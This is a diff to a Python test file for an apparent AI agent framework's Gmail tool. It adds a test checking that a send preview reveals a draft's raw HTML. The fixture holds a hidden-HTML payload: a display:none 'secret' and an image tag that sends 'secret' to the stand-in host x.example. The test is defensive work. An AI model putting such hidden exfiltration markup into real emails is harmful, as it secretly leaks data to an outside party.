@@ -11,6 +11,7 @@ import pytest
 
 from delf import Agent
 from delf.errors import ToolRefusedError
+from delf.protocols.connection import ProposedCall
 from delf.testing import ScriptedModel, TestHost
 from delf_gmail import Gmail
 from delf_google.errors import GoogleError
@@ -203,6 +204,14 @@ async def test_draft_is_not_sent(google: GoogleServer, gmail: Any) -> None:
     assert answer["thread"] == first.thread
     with pytest.raises(ToolRefusedError, match="leave out people and subject"):
         await gmail.draft("Yes", to=BOB, reply_to=first.id)
+
+
+async def test_draft_is_shown_with_what_its_html_hides(gmail: Any) -> None:
+    hidden = '<b style="display:none">secret</b><img src="https://x.example/?secret">'
+    draft = await gmail.draft("Hi", to=BOB, subject="x", html=f"<p>Hi</p>{hidden}")
+    call = ProposedCall(action="send_draft", arguments={"draft": draft["id"]})
+    shown = (await gmail.check(call)).preview
+    assert shown.endswith(f"Hi\n\nThe source of its HTML:\n<p>Hi</p>{hidden}")
 
 
 async def test_failed_trash_says_how_many_messages_it_moved(
